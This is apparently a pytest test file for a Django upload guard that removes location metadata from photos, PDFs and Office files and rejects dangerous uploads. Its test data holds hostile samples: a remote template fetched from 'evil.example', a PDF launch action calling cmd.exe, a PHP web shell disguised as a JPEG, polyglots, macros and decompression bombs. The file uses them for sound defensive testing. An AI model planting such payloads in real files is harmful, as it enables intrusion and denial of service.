"""Evidence: checked by what it holds, cleaned of the place where it was taken, photographs joined into one PDF."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, Image

from documents import pictures
from documents.evidence_files import take_in
from documents.models import StoredFile
from documents.store import open_stored
from documents.uploads_guard import UploadRefused, check
from documents.whereabouts import clean_office, clean_pdf, without_place
from tests import factories
from tests.documents.hostile import packed, unpacked, with_parts
from tests.documents.test_uploads_guard import pdf, png, word, workbook

Keep = Callable[..., list[StoredFile]]
LATITUDE = (58.0, 59.0, 21.5)


def photo(width: int = 60, height: int = 40, *, orientation: int = 0, place: bool = True, kind: str = "JPEG") -> bytes:
    """A photograph as a telephone makes it: left half red, right half blue, with the place and the device."""
    picture = Image.new("RGB", (width, height), "red")
    picture.paste("blue", (width // 2, 0, width, height))
    exif = Image.Exif()
    exif[ExifTags.Base.Model] = "Telephone of Anna"
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    if place:
        exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] = LATITUDE
    target = io.BytesIO()
    picture.save(target, kind, exif=exif)
    return target.getvalue()


def has_place(content: bytes) -> bool:
    with Image.open(io.BytesIO(content)) as picture:
        return bool(picture.getexif().get_ifd(ExifTags.IFD.GPSInfo))


def scan(picture: bytes, **keys: Any) -> bytes:
    """A PDF of one page that carries the JPEG as it is."""
    target = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        image = pikepdf.Stream(
            made,
            picture,
            Type=pikepdf.Name.XObject,
            Subtype=pikepdf.Name.Image,
            Width=60,
            Height=40,
            ColorSpace=pikepdf.Name.DeviceRGB,
            BitsPerComponent=8,
            Filter=pikepdf.Name.DCTDecode,
        )
        made.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image))
        for name, value in keys.items():
            made.Root[f"/{name}"] = made.make_indirect(value) if isinstance(value, pikepdf.Dictionary) else value
        made.save(target)
    return target.getvalue()


def picture_of(content: bytes) -> bytes:
    with pikepdf.open(io.BytesIO(content)) as opened:
        return opened.pages[0].Resources.XObject.Im0.read_raw_bytes()


@pytest.fixture
def keep(unscoped: None, db: None, settings: Any, tmp_path: Any) -> Keep:
    settings.STORAGES = settings.STORAGES | {
        "default": {"BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": tmp_path}}
    }
    person = factories.user("curator")
    municipality = person.memberships.get().municipality_id

    def keeping(*files: tuple[str, bytes]) -> list[StoredFile]:
        sent = [SimpleUploadedFile(name, content) for name, content in files]
        return take_in(sent, municipality_id=municipality, by=person)

    return keeping


def stored(row: StoredFile) -> bytes:
    with open_stored(row) as file:
        return file.read()


def test_a_photograph_keeps_its_points_and_nothing_beside_them(keep: Keep) -> None:
    sent = photo(orientation=6)
    assert has_place(sent)
    (row,) = keep(("фото.jpg", sent))
    content = stored(row)
    assert row.content_type == "image/jpeg"
    assert not has_place(content)
    assert b"Telephone" not in content
    with Image.open(io.BytesIO(content)) as kept:
        # Turned as the telephone said: the left half has become the upper one.
        assert kept.size == (40, 60)
        assert kept.getpixel((20, 10))[0] > 200
        assert kept.getpixel((20, 50))[2] > 200


def test_a_png_loses_its_place_and_what_is_transparent_is_white(keep: Keep) -> None:
    layered = io.BytesIO()
    exif = Image.Exif()
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] = LATITUDE
    Image.new("RGBA", (10, 10), (0, 0, 0, 0)).save(layered, "PNG", exif=exif)
    (row,) = keep(("снимок.png", layered.getvalue()))
    content = stored(row)
    assert not has_place(content)
    with Image.open(io.BytesIO(content)) as kept:
        assert kept.getpixel((5, 5)) == (255, 255, 255)


def test_several_photographs_become_one_pdf_in_their_order(keep: Keep) -> None:
    (row,) = keep(("1.jpg", photo(60, 40)), ("2.png", photo(40, 60, kind="PNG")), ("3.jpg", photo(60, 40)))
    content = stored(row)
    assert (row.name, row.content_type) == ("1, фото 1–3.pdf", "application/pdf")
    with pikepdf.open(io.BytesIO(content)) as made:
        sizes = [tuple(round(float(edge)) for edge in page.MediaBox)[2:] for page in made.pages]
        images = [page.Resources.XObject.Im0.read_raw_bytes() for page in made.pages]
    assert sizes == [(842, 595), (595, 842), (842, 595)]
    assert not any(has_place(image) for image in images)
    assert check(content).kind == "pdf"


def test_documents_beside_photographs_stay_documents(keep: Keep) -> None:
    rows = keep(("приказ.pdf", pdf()), ("1.jpg", photo()), ("2.jpg", photo()))
    assert [row.name for row in rows] == ["приказ.pdf", "1, фото 1–2.pdf"]


def test_one_photograph_beside_a_document_stays_a_photograph(keep: Keep) -> None:
    rows = keep(("1.jpg", photo()), ("список.xlsx", workbook()))
    assert [row.content_type.rpartition("/")[2][:5] for row in rows] == ["jpeg", "vnd.o"]


def test_a_document_without_places_is_kept_byte_for_byte(keep: Keep) -> None:
    for name, content in (("приказ.pdf", pdf()), ("список.xlsx", workbook()), ("отчёт.docx", word())):
        assert stored(keep((name, content))[0]) == content


def test_a_scan_loses_the_place_and_keeps_its_picture() -> None:
    before = scan(photo())
    after = clean_pdf(before)
    assert has_place(picture_of(before))
    assert not has_place(picture_of(after))
    with (
        Image.open(io.BytesIO(picture_of(before))) as one,
        Image.open(io.BytesIO(picture_of(after))) as other,
    ):
        assert one.tobytes() == other.tobytes()


def test_a_description_that_names_a_place_is_taken_out() -> None:
    words = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>58,59.3N</exif:GPSLatitude></x:xmpmeta>'
    target = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        made.Root.Metadata = pikepdf.Stream(made, words)
        made.save(target)
    assert b"GPSLatitude" not in clean_pdf(target.getvalue())


def test_a_signed_scan_with_a_place_is_refused_not_broken(keep: Keep) -> None:
    signed = scan(photo(), Sig=pikepdf.Dictionary(Type=pikepdf.Name.Sig))
    with pytest.raises(UploadRefused, match=r"«приказ\.pdf».*подпис"):
        keep(("приказ.pdf", signed))
    # Without a place nothing is touched, and the signature holds.
    clean = scan(photo(place=False), Sig=pikepdf.Dictionary(Type=pikepdf.Name.Sig))
    assert stored(keep(("приказ.pdf", clean))[0]) == clean


def test_photographs_in_word_lose_the_place() -> None:
    after = clean_office(with_parts(word(), **{"word/media/image1.jpeg": photo()}))
    assert not has_place(unpacked(after)["word/media/image1.jpeg"])
    assert check(after, "отчёт.docx").kind == "docx"


def test_a_foreign_template_is_not_fetched() -> None:
    rels = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://evil.example/macro.dotm" TargetMode="External"/></Relationships>'
    )
    settings = unpacked(word())["word/settings.xml"].replace(
        b"</w:settings>",
        b'<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
        b'r:id="rId1"/></w:settings>',
    )
    hostile = with_parts(word(), **{"word/_rels/settings.xml.rels": rels, "word/settings.xml": settings})
    parts = unpacked(clean_office(hostile))
    assert b"evil.example" not in parts["word/_rels/settings.xml.rels"]
    assert b"attachedTemplate" not in parts["word/settings.xml"]


def test_what_stands_behind_an_archive_is_not_kept() -> None:
    after = clean_office(word() + b"MZ hidden program")
    assert b"hidden" not in after
    assert unpacked(after) == unpacked(word())


def test_a_picture_without_a_place_stays_as_it_is() -> None:
    plain = photo(place=False)
    assert without_place(plain) == plain


def test_a_polyglot_picture_loses_its_other_half(keep: Keep) -> None:
    hidden = packed({"index.html": b"<script>alert(1)</script>"})
    (row,) = keep(("фото.jpg", photo() + hidden))
    assert b"PK\x03\x04" not in stored(row)


HEIC = b"\x00\x00\x00\x18ftypheic" + bytes(200)


def polyglot() -> bytes:
    return pdf() + packed({"word/document.xml": b"<w/>"})


def pdf_with(**annotation: Any) -> bytes:
    target = io.BytesIO()
    with pikepdf.new() as made:
        page = made.add_blank_page()
        page.Annots = pikepdf.Array([pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[0, 0, 9, 9], **annotation)])
        made.save(target, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return target.getvalue()


def bomb() -> bytes:
    """A PDF whose object stream unpacks to 300 MB."""
    squeezed = zlib.compressobj(9)
    body = b"".join([*(squeezed.compress(bytes(2**20)) for _ in range(300)), squeezed.flush()])
    head = b"%%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Length %d /Filter /FlateDecode >>\nstream\n"
    return head % len(body) + body + b"\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF"


def macros() -> bytes:
    return with_parts(workbook(), **{"xl/vbaProject.bin": b"x"})


LAUNCH = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
SCRIPT = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("фото.heic", HEIC, "HEIC.*«Наиболее совместимый».*PDF"),
        ("приказ.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), r"\.doc.*PDF"),
        ("приказ.odt", packed({"mimetype": b"application/vnd.oasis.opendocument.text"}), "ODT.*PDF"),
        ("приказ.rtf", b"{\\rtf1}", "RTF.*PDF"),
        ("приказ.pdf", polyglot(), "За концом PDF.*посторонние"),
        ("приказ.pdf", pdf_with(Subtype=pikepdf.Name.Link, A=LAUNCH), "сценарии"),
        ("приказ.pdf", pdf_with(Subtype=pikepdf.Name.Link, AA=pikepdf.Dictionary(D=SCRIPT)), "сценарии"),
        ("приказ.pdf", pdf_with(Subtype=pikepdf.Name.RichMedia), "сценарии"),
        ("приказ.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "паролем"),
        ("приказ.pdf", bomb(), "слишком большого объёма"),
        ("приказ.pdf", pdf()[:300], "повреждён|не распознан"),
        ("список.xlsx", macros(), "макросы"),
        ("отчёт.docx", with_parts(word(), **{"word/vbaProject.bin": b"x"}), "макросы"),
        (
            "отчёт.docx",
            with_parts(word(), **{"word/embeddings/oleObject1.bin": "\x01Ole10Native".encode("utf-16-le")}),
            "вложен другой файл",
        ),
        ("список.xlsx", with_parts(workbook(), **{"xl/x.xml": bytes(40 * 2**20)}), "слишком большого объёма"),
        ("фото.png", png(30_000, 30_000), "слишком велика"),
        ("фото.jpg", photo(400, 400)[:-700], "повреждён"),
        ("фото.jpg", b"\xff\xd8\xff<?php system($_GET[1]); ?>", "повреждён"),
        ("страница.pdf", b"<html><script>alert(1)</script></html>", "не распознан"),
        ("приказ.pdf", b"", "пуст"),
    ],
    ids=[
        *("heic", "doc", "odt", "rtf", "polyglot", "launch", "script in a field", "rich media", "password", "pdf bomb"),
        *("cut pdf", "macros in xlsx", "macros in docx", "package", "zip bomb", "huge png", "cut jpeg", "php"),
        *("html", "empty"),
    ],
)
def test_what_is_not_taken_says_why_and_is_not_kept(keep: Keep, name: str, content: bytes, words: str) -> None:
    with pytest.raises(UploadRefused, match=words):
        keep(("хороший.pdf", pdf()), (name, content))
    assert not StoredFile.objects.exists()


def test_a_picture_that_unpacks_too_far_is_not_decoded() -> None:
    """The header tells the truth here: a small file of a picture with 36 million points."""
    squeezed = io.BytesIO()
    Image.new("1", (6000, 6000)).save(squeezed, "PNG")
    with pytest.raises(pictures.PictureRefused, match="6000 × 6000"):
        pictures.cleaned(squeezed.getvalue(), "PNG")


def test_a_large_photograph_is_made_as_small_as_paper_needs() -> None:
    with Image.open(io.BytesIO(pictures.cleaned(photo(6000, 4000), "JPEG"))) as kept:
        assert max(kept.size) <= 3508


def test_too_many_files_and_no_room_are_told(keep: Keep, settings: Any) -> None:
    settings.EVIDENCE_FILES = 2
    with pytest.raises(UploadRefused, match=r"Выбрано файлов: 3.*не больше 2"):
        keep(*[(f"{number}.pdf", pdf()) for number in range(3)])
    settings.UPLOAD_QUOTA_MB = 0
    with pytest.raises(UploadRefused, match="отведено 0 МБ"):
        keep(("приказ.pdf", pdf()))
    settings.UPLOAD_LIMIT_MB = 0
    with pytest.raises(UploadRefused, match="больше 0 МБ"):
        keep(("приказ.pdf", pdf()))
